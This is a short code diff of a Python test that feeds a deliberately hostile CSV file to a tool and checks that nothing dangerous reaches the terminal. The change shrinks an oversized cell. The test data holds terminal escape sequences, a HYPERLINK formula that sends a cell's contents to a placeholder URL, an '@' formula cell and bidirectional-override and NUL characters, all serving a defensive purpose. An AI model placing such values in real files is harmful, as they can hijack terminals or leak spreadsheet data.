@@ -363,7 +363,7 @@ def test_hostile_headers_and_cells_do_not_reach_the_terminal(tmp_path: Path) -> 
         "宛名番号", "\x1b[31m氏名\x1b]0;x\x07", '=HYPERLINK("http://x/?"&A2;"氏名")', "住所\u202e番地",
         "生年月日", "電話番号\x00x"[:4],
     ]  # fmt: skip
-    rows = [["12345678", "番場　一", "@SUM(1)", "西新宿", "2008-04-02", "x" * 10_000_000]] * 2
+    rows = [["12345678", "番場　一", "@SUM(1)", "西新宿", "2008-04-02", "x" * 1_000_000]] * 2
     path = tmp_path / "hostile.csv"
     written = io.StringIO(newline="")
     csv.writer(written).writerows([headers, *rows])
